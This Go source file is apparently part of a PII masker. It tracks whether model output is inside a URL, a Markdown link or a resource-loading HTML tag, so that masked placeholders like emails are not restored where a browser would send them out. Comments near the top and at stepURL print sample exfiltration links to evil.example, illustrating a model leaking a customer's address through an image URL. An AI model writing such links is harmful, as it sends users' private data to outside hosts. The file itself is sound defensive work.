package mask

import "html"

// trail follows a text byte by byte and knows where a URL is being written. A model that writes
// ![x](https://evil.example/?q=[EMAIL_1]) would have the customer's browser carry the address away, so
// inside a URL a placeholder is restored only where the masker itself put it: behind the same beginning.
//
// A URL is what browsers take for one: a token with // or :/ in it (also with backslashes, also written as
// entities), the destination of a Markdown link, and the attributes of tags that load something.
type trail struct {
	where  place
	ends   byte // of a quoted URL: what ends it; spaces do not
	depth  int  // of a destination: round brackets open in it
	quote  byte // of a tag: the quote that is open
	open   byte // the last byte before the present token
	prev   byte
	begun  [64]byte // the present token, as far as it is no URL yet
	n      int      // bytes in begun
	url    linkSum  // of the present URL, placeholders included as we write them
	head   short    // the beginning of the destination
	tag    short    // the name of the tag being opened
	entity short
	before byte // what stood in front of the entity
}

// place is what kind of text is being written.
type place uint8

const (
	inText place = iota
	inURL
	inDestination
	inTag
)

// short keeps the first bytes of something.
type short struct {
	b [10]byte
	n int // 0: none begun; more than len(b): too long
}

func (s *short) add(b byte) {
	if s.n < len(s.b) {
		s.b[s.n] = b
	}
	s.n++
}

func (s *short) String() string {
	if s.n > len(s.b) {
		return ""
	}
	return string(s.b[:s.n])
}

func newTrail(key *[32]byte) trail { return trail{url: linkSum{key: key}} }

// inside says whether a placeholder here would become part of a URL. mailto:[EMAIL_1] is none: whoever
// follows it sees it.
func (t *trail) inside() bool {
	if t.where == inDestination {
		switch t.head.String() {
		case "mailto:", "tel:", "sms:":
			return false
		}
	}
	return t.where != inText
}

// place takes a placeholder and returns the sum that names this place, 0 where no URL is being written: what stands in
// front of a URL is no part of its sum.
func (t *trail) place(placeholder string) (sum uint64) {
	if t.where != inText {
		t.url.addText(placeholder)
		sum = t.url.value()
	}
	t.head.n = len(t.head.b) + 1
	t.prev = 'x'
	return sum
}

// feed takes the next byte of the text.
func (t *trail) feed(b byte) {
	before := t.prev
	t.step(b)
	if b != '&' && t.entity.n == 0 {
		return
	}
	if b == '&' {
		t.entity, t.before = short{}, before
	}
	t.entity.add(b)
	switch {
	case b == ';':
		t.endEntity()
	case t.entity.n > len(t.entity.b):
		t.entity.n = 0
	}
}

// endEntity reads &#47; as the slash that browsers see.
func (t *trail) endEntity() {
	if as := html.UnescapeString(t.entity.String()); as == "/" || as == ":" || as == `\` {
		t.prev = t.before
		t.step(as[0])
	}
	t.entity.n = 0
}

func (t *trail) step(b byte) {
	switch t.where {
	case inText:
		t.stepText(b)
	case inURL:
		t.stepURL(b)
	case inDestination:
		t.stepDestination(b)
	case inTag:
		t.stepTag(b)
	}
}

// stepText looks for the beginning of a URL.
func (t *trail) stepText(b byte) {
	if t.openTag(b) {
		return
	}
	switch {
	case b == '(' && t.prev == ']':
		t.enter(inDestination)
		return
	case b <= ' ' || b == '"' || b == '<' || b == '>' || b == '`' || b == '\'':
		t.leave(b)
		return
	case !isAlnum(b) && b != '/' && b != ':' && b != '\\' && b != '.' && b != '-' && b != '+':
		t.leave(0)
		t.prev = b
		return
	}
	if t.n == len(t.begun) {
		t.n = 0 // no scheme is that long
	}
	t.begun[t.n] = b
	t.n++
	if (b == '/' || b == '\\') && (t.prev == '/' || t.prev == ':') {
		t.where, t.ends = inURL, closer(t.open)
		t.url.reset()
		t.url.addText(string(t.begun[:t.n]))
	}
	t.prev = b
}

// openTag reads the name of a tag and enters it if it loads something.
func (t *trail) openTag(b byte) bool {
	switch {
	case b == '<':
		t.tag = short{}
		t.tag.add(b)
	case t.tag.n > 0 && (isLetter(b) || t.tag.n == 1 && b == '/'):
		t.tag.add(b | 0x20)
	case t.tag.n > 0:
		loads := loading[t.tag.String()]
		t.tag.n = 0
		if loads && b != '>' {
			t.enter(inTag)
			t.url.add(b)
			return true
		}
	}
	return false
}

// loading are the tags whose attributes make a browser load something.
var loading = map[string]bool{"<img": true, "<image": true, "<script": true, "<iframe": true, "<frame": true, "<link": true,
	"<object": true, "<embed": true, "<source": true, "<video": true, "<audio": true, "<track": true, "<form": true,
	"<input": true, "<base": true, "<meta": true, "<svg": true, "<use": true, "<body": true, "<style": true}

// stepURL looks for the end of a token, or of the quotes around it: <img src="https://evil.example/? [EMAIL_1]">
// is one URL to a browser, spaces and all.
func (t *trail) stepURL(b byte) {
	switch {
	case t.ends != 0 && (b == t.ends || b == '\n'),
		t.ends == 0 && (b <= ' ' || b == '"' || b == '<' || b == '>' || b == '`'):
		t.leave(b)
		return
	}
	t.url.add(b)
	t.prev = b
}

// stepDestination looks for the bracket that closes a Markdown link. Those inside it may nest.
func (t *trail) stepDestination(b byte) {
	switch b {
	case '(':
		t.depth++
	case ')':
		if t.depth--; t.depth < 0 {
			t.leave(b)
			return
		}
	case '\n':
		t.leave(b)
		return
	}
	t.head.add(b)
	t.url.add(b)
}

// stepTag looks for the end of a tag that loads something.
func (t *trail) stepTag(b byte) {
	switch {
	case t.quote != 0:
		if b == t.quote {
			t.quote = 0
		}
	case b == '"' || b == '\'':
		t.quote = b
	case b == '>':
		t.leave(b)
		return
	}
	t.url.add(b)
}

func (t *trail) enter(where place) {
	t.url.reset()
	t.where, t.depth, t.quote, t.head = where, 0, 0, short{}
}

func (t *trail) leave(b byte) {
	t.where, t.ends, t.open, t.prev = inText, 0, b, b
	t.n = 0
}

// closer returns what ends a URL that stands behind this byte, 0 for white space.
func closer(open byte) byte {
	switch open {
	case '"', '\'':
		return open
	case '<':
		return '>'
	}
	return 0
}
